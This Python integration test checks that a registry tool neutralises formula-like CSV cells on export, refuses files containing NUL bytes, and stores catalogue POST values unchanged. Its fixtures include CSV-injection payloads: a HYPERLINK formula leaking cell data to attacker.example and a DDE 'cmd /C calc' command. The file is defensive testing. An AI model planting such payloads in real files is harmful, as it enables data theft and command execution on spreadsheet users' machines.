#!/usr/bin/env python3
"""Integration test: CSV cells a spreadsheet would run, and NUL bytes
(issue 17, "Files, CSV, logs").

1. `lienthong import` of units whose name, address, phone and decision look
   like formulas (=, +, -, @ first, an apostrophe first); `lienthong export`
   writes no cell a spreadsheet would run (each gets an apostrophe in
   front: the phone +84 … reads '+84 …), a fresh registry imports that file,
   and its export is the same bytes; every value is the one first given.
2. A file with a NUL byte in a field: `lienthong import` refuses it, naming
   the line and the column, and imports nothing (it used to cut the value
   at the NUL and report success).
3. The shared-catalogue POST (/dmdc/Category/…), which goes through the same
   import: values beginning with an apostrophe or a formula character are
   stored as posted and GET gives them back.

Run by ctest as `python3 FILE` with LT_BUILD_DIR and LT_SOURCE_DIR set.
Standard library only. Ends with a line "N passed, M failed".
"""

import csv
import io
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ltd  # noqa: E402
from ltd import CB  # noqa: E402

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HEADER = "code,name,parent,address,email,phone,fax,website,decision_number,decision_date,decision_issuer,valid_from"
UNITS = [
    # code, name, address, phone, decision_number, decision_issuer
    ("000.00.00.G01", '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+Số 1 Hoàng Hoa Thám",
     "+84 24 3825 3451", "-12/QĐ-TTg", "@Thủ tướng Chính phủ"),
    ("000.00.00.G02", "'=Ban chỉ đạo", "'Số 2, phố Huế", "-0243 825 345", "'+1/QĐ", "=cmd|' /C calc'!A0"),
    ("000.00.00.G03", "'Ban quản lý dự án", "@home", "(024) 3825 3451", "=1+2", "''Bộ Nội vụ"),
    ("000.00.00.G04", "Ủy ban nhân dân tỉnh Cao Bằng", "Số 11 Hoàng Đình Giong", "0206 3 852 141", "1/QĐ",
     "Thủ tướng Chính phủ"),
]


def quoted(v):
    return '"' + v.replace('"', '""') + '"'


def source_csv():
    """The units as a CSV any tool might write: every value quoted, none
    neutralised (the import takes cells as they are)."""
    lines = [HEADER]
    for code, name, addr, phone, num, issuer in UNITS:
        lines.append(",".join([code, quoted(name), "", quoted(addr), "", quoted(phone), "", "", quoted(num),
                               "2020-07-22", quoted(issuer), "2020-07-22"]))
    return "\n".join(lines) + "\n"


class CsvCells(ltd.DaemonTest):
    def write(self, reg, name, data):
        path = os.path.join(reg.dir, name)
        with open(path, "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode("utf-8"))
        return path

    def unit(self, reg, code):
        return json.loads(reg.check("unit", "show", code, "--json"))

    def test_export_neutralises_and_round_trips(self):
        a = ltd.Registry(prefix="lt_test_csv_a_", demo=None)
        b = ltd.Registry(prefix="lt_test_csv_b_", demo=None)
        try:
            # Registries start empty, so every expected value is the one the source file gives.
            src = source_csv()
            # The apostrophe-first values of the source are taken as they are: only a cell the
            # export neutralised (an apostrophe then = + - @ TAB CR) loses its first apostrophe.
            expected = {}
            for code, name, addr, phone, num, issuer in UNITS:
                def plain(v):
                    return v[1:] if len(v) >= 2 and v[0] == "'" and v[1] in TRIGGERS + ("'",) else v
                expected[code] = (plain(name), plain(addr), plain(phone), plain(num), plain(issuer))
            a.check("import", self.write(a, "src.csv", src))
            out1 = a.export_text()
            rows = list(csv.reader(io.StringIO(out1)))
            self.assertEqual(",".join(rows[0]), HEADER)
            for row in rows[1:]:
                for cell in row:
                    self.assertFalse(cell.startswith(TRIGGERS), f"a spreadsheet would run {cell!r}: {row}")
            by_code = {r[0]: r for r in rows[1:]}
            self.assertEqual(by_code["000.00.00.G01"][5], "'+84 24 3825 3451", "the phone as a spreadsheet gets it")
            self.assertEqual(by_code["000.00.00.G02"][1], "'=Ban chỉ đạo")  # a neutralised source cell stays so
            self.assertEqual(by_code["000.00.00.G03"][1], "''Ban quản lý dự án")  # an apostrophe is kept
            self.assertEqual(by_code["000.00.00.G04"][1], "Ủy ban nhân dân tỉnh Cao Bằng")  # the rest untouched
            # What the first registry holds is what the source file said.
            for code, (name, addr, phone, num, issuer) in expected.items():
                u = self.unit(a, code)
                self.assertEqual((u["name"], u["address"], u["phone"], u["decision"]["number"], u["decision"]["issuer"]),
                                 (name, addr, phone, num, issuer), code)
            # The export imports back unchanged: same values, same file.
            b.check("import", self.write(b, "export.csv", out1))
            out2 = b.export_text()
            self.assertEqual(out2, out1)
            for code in expected:
                ua, ub = self.unit(a, code), self.unit(b, code)
                for k in ("name", "address", "phone", "decision"):
                    self.assertEqual(ub[k], ua[k], f"{code} {k}")
        finally:
            a.close()
            b.close()

    def test_nul_byte_is_refused(self):
        reg = ltd.Registry(prefix="lt_test_csv_nul_", demo=None)
        try:
            data = (b"code,name,address\n"
                    b"000.00.00.G01,\xe1\xbb\xa6y ban nh\xc3\xa2n d\xc3\xa2n,\n"
                    b"000.00.00.G02,V\xc4\x83n ph\xc3\xb2ng\x00<script>,S\xe1\xbb\x91 1\n")
            p = reg.run("import", self.write(reg, "nul.csv", data))
            self.assertNotEqual(p.returncode, 0, p.stdout)
            self.assertIn("line 3", p.stdout + p.stderr)
            self.assertIn("column 2 (name) holds a NUL byte", p.stdout + p.stderr)
            self.assertNotIn("imported 2", p.stdout)
            self.assertEqual(reg.export_text(), HEADER + "\n", "nothing was imported")
            p = reg.run("import", "--json", self.write(reg, "nul.csv", data))
            rep = json.loads(p.stdout)
            self.assertEqual((rep["ok"], rep["imported"]), (False, 0), rep)
            self.assertEqual([(e["line"], e["code"]) for e in rep["errors"]], [(3, "000.00.00.G02")], rep)
        finally:
            reg.close()

    def test_dmdc_post_keeps_values(self):
        reg = ltd.Registry(prefix="lt_test_csv_dmdc_")
        d = None
        try:
            admin = reg.token("admin")
            d = ltd.Daemon(reg).start()
            recs = []
            for i, (name, phone) in enumerate([("'=Ban chỉ đạo", "+84 206 3852 141"), ("=1+2 Ban", "-0206"),
                                               ("'Ban quản lý", "0206 3 852 141"), ("@Ban", "(0206) 385")]):
                recs.append({"MaDinhDanhCap2": f"000.00.{61 + i}.H14", "MaDinhDanhCha": CB, "TenDonVi": name,
                             "DiaChi": "'+Số 5", "Email": "", "SoDienThoai": phone, "Fax": "", "Website": "",
                             "QdBanHanhQdSuaDoi": "-1/QĐ", "NgayBanHanhQd": "16/08/2018",
                             "CoQuanBanHanhQd": "'Ủy ban"})
            r = d.post("/dmdc/Category/qlvanbandieuhanhcap2", recs, token=admin)
            self.assertStatus(r, 200)
            self.assertEqual(r.json(), {"MSG": "Done", "Count": 4})
            got = {x["MaDinhDanhCap2"]: x for x in d.get("/dmdc/Category/qlvanbandieuhanhcap2").json()}
            for rec in recs:
                self.assertEqual(got[rec["MaDinhDanhCap2"]], rec, "GET gives back what was posted")
            # A NUL cannot reach the CSV import from JSON: refused, nothing written.
            seq = d.last_seq()
            bad = {**recs[0], "MaDinhDanhCap2": "000.00.69.H14", "TenDonVi": "Ban\u0000x"}
            r = d.post("/dmdc/Category/qlvanbandieuhanhcap2", [bad], token=admin)
            self.assertStatus(r, 400)
            self.assertEqual(r.json()["Count"], 0)
            self.assertEqual(d.last_seq(), seq)
            self.assertEqual(d.stop(), 0)
            d = None
        finally:
            if d is not None:
                d.kill()
            reg.close()


if __name__ == "__main__":
    sys.exit(ltd.main(__name__))
